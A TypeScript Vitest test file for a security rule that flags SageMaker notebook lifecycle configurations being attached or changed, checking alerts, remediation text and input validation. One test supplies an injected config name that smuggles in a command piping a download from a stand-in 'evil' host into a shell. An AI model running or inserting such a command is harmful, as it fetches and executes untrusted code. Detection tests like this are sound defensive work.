import { describe, expect, it } from 'vitest';
import { FINDINGS, notebookLifecycleAttached } from '../../../functions/notebook-lifecycle-attached/rule.js';
import { run } from '../../../shared/runner/run.js';
import { capturingDeps, loadSample, runSample, sampleConfig, withDetail } from '../../helpers/samples.js';

describe('notebook-lifecycle-attached', () => {
  it('alerts HIGH on a lifecycle configuration attached, naming both, with quoted commands', async () => {
    expect(FINDINGS).toEqual(['lifecycle-config-attached', 'lifecycle-config-changed']);
    const { record, deps } = await runSample(notebookLifecycleAttached, 'alerted.lifecycle-config-attached');
    expect(record).toMatchObject({
      outcome: 'alerted',
      severity: 'HIGH',
      finding: 'lifecycle-config-attached',
      resources: [{ type: 'AWS::SageMaker::NotebookInstance', id: 'fraud-model-dev' }],
      reason: expect.stringContaining('pip-mirror-setup'),
    });
    expect(deps.published[0]?.text).toContain("--notebook-instance-name 'fraud-model-dev' --disassociate-lifecycle-config --region 'eu-west-1'");
  });

  it('alerts HIGH on changed scripts, never showing them', async () => {
    const { record, deps } = await runSample(notebookLifecycleAttached, 'alerted.lifecycle-config-scripts-changed');
    expect(record).toMatchObject({
      finding: 'lifecycle-config-changed',
      resources: [{ type: 'AWS::SageMaker::NotebookInstanceLifecycleConfig', id: 'pip-mirror-setup' }],
    });
    expect(JSON.stringify(deps.published)).not.toContain('IyEvYmluL2Jhc2g');
  });

  it('is compliant for other updates and a detach; ignores a failed update', async () => {
    expect((await runSample(notebookLifecycleAttached, 'compliant.notebook-instance-type-changed')).record.outcome).toBe('compliant');
    expect((await runSample(notebookLifecycleAttached, 'compliant.lifecycle-config-detached')).record.outcome).toBe('compliant');
    expect((await runSample(notebookLifecycleAttached, 'ignored.update-notebook-instance-in-service')).record.outcome).toBe('ignored');
  });

  it('refuses a name that is no SageMaker name as a parse error', async () => {
    const event = withDetail(loadSample(notebookLifecycleAttached.id, 'alerted.lifecycle-config-attached'), {
      requestParameters: { notebookInstanceName: 'fraud-model-dev', lifecycleConfigName: "x'; curl evil|sh" },
    });
    const record = await run(notebookLifecycleAttached, event, capturingDeps({ config: sampleConfig() }));
    expect(record).toMatchObject({ outcome: 'failed', error: { kind: 'parse' } });
    expect(record.reason).toContain('lifecycleConfigName');
  });
});
